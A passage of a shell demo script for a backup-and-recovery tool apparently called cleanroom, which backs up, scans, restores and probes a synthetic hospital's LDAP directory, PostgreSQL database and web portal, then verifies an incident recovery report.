cr backup --source database --time "$(night 5)" --tag nightly "$PGSRC" || fail "backup of database failed"
cr backup --source directory --time "$(night 5)" --tag nightly "$LDSRC" || fail "backup of directory failed"
cr --quiet hunt || fail "hunt of the new snapshots failed"
note "hunted: their clean points are their only backups"

# ------------------------------------------------------------------------
section "Recovery of the hospital from its clean points: cleanroom recover"
PLANDIR="$DEMO/recovery"
RESTORED="${SHARED:-$PLANDIR}/restored"
mkdir -p "$PLANDIR" "$RESTORED"
chmod 755 "$PLANDIR" "$RESTORED"
LDPORT=$(free_port) PGPORT=$(free_port) WEBPORT=$(free_port)
# A restored folder holds the backed-up path in full: $CLEANROOM_TARGET$SRC/...
cat >"$PLANDIR/hospital.yaml" <<EOF
# The demo hospital's recovery plan (docs/plan.md).
site: demo-hospital
vault: $DEMO/vault
defaults: {probe_timeout: 3s, probe_retries: 5, probe_interval: 1s}
services:
  - name: directory                  # tier 0: nothing authenticates without it
    tier: 0
    target: {folder: $RESTORED/directory}
    start: |
      D="\$CLEANROOM_TARGET$LDSRC"
      sed "s|@DIR@|\$D|g" "\$D/slapd.conf.in" > "\$D/slapd.conf"
      slapd -f "\$D/slapd.conf" -h "ldap://127.0.0.1:$LDPORT/"
    probes:
      - {kind: ldap, name: staff accounts, url: "ldap://127.0.0.1:$LDPORT/", base: "ou=staff,dc=hopital,dc=example", filter: "(objectClass=inetOrgPerson)", min_entries: $NSTAFF}
    rto: 5m
  - name: database                   # tier 1: the patient records' database
    tier: 1
    depends_on: [directory]
    target: {folder: $RESTORED/database}
    start: |
      D="\$CLEANROOM_TARGET$PGSRC/data"
      # As root: the restored cluster belongs to postgres, who must reach it.
      if [ "\$(id -u)" -eq 0 ]; then chmod 755 "\$CLEANROOM_TARGET"; chown -R postgres "\$D"; chmod 700 "\$D"; fi
      cd /   # the folder recover runs from may be out of postgres's reach
      $RUNPG$PGBIN/pg_ctl -D "\$D" -o "-p $PGPORT -k /tmp -c listen_addresses=127.0.0.1" -l "\$D/recovery.log" -w -t 60 start
    probes:
      - {kind: postgres, name: patients, conninfo: "host=127.0.0.1 port=$PGPORT dbname=hospital user=postgres", query: "SELECT count(*) FROM patients", expect: "$NPAT"}
    rto: 10m
  - name: dpi                        # tier 1: the patient portal, from its clean point
    tier: 1
    depends_on: [directory, database]
    target: {folder: $RESTORED/dpi}
    start: |
      cd "\$CLEANROOM_TARGET$SRC/dpi/www"
      setsid nohup python3 -m http.server --bind 127.0.0.1 $WEBPORT >/dev/null 2>&1 &
      echo \$! > "$PLANDIR/dpi-web.pid"
    probes:
      - {kind: http, name: portal, url: "http://127.0.0.1:$WEBPORT/login.html", expect_status: 200, expect_body: Patient portal}
    rto: 15m
EOF
SERVERS+=("$RESTORED/directory$LDSRC/slapd.pid" "$RESTORED/database$PGSRC/data/postmaster.pid" "$PLANDIR/dpi-web.pid")
note "plan: demo/recovery/hospital.yaml: tier 0 directory (slapd), tier 1 database (PostgreSQL) and dpi (web portal)"
cr plan check "$PLANDIR/hospital.yaml" || fail "plan check failed"
t=$(date +%s.%N)
cr recover "$PLANDIR/hospital.yaml" || fail "the recovery did not bring every service back"
REC_S=$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
note "every service restored from its clean point, started on the restored data and probed: $REC_S s"
"$PGBIN/psql" -At -h 127.0.0.1 -p "$PGPORT" -U postgres -d hospital \
    -c "SELECT name FROM patients WHERE id = 'P000042'" | grep -qx 'Patient 42' ||
    fail "the restored database does not answer"
note "the restored PostgreSQL answers: P000042 is Patient 42"

section "The incident recovery report, checked against the journal"
cr report "$PLANDIR/hospital.journal" --lang en || fail "report failed"
cr journal verify "$PLANDIR/hospital.journal" || fail "the journal does not verify"
HEAD=$("$CLEANROOM" journal verify "$PLANDIR/hospital.journal" | sed -n 's/.*head \([0-9a-f]*\).*/\1/p')
grep -q "$HEAD" "$PLANDIR/hospital-report.md" || fail "the report does not quote the journal's head"
grep -q "every service of the plan was restored" "$PLANDIR/hospital-report.html" ||
    fail "the report does not say every service is back"
note "demo/recovery/hospital-report.md and .html quote head ${HEAD:0:16}...; the summary:"
sed -n '/^## By tier/,/^## By service/p' "$PLANDIR/hospital-report.md" | grep '^|' | sed 's/^/     /'
stop_servers
as_pg "$PGBIN/pg_ctl" -D "$RESTORED/database$PGSRC/data" -m fast -w stop >/dev/null 2>&1 || true
note "servers stopped"
section "The web console on the demo vault"
CLEANROOM="$CLEANROOM" DEMO="$DEMO" "$ROOT/scripts/console-demo.sh" --check || fail "the console did not answer"

printf '\n   total demo time: %s\n' "$(awk -v a="$T0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.0f s", b - a }')"
echo
echo "DEMO OK"
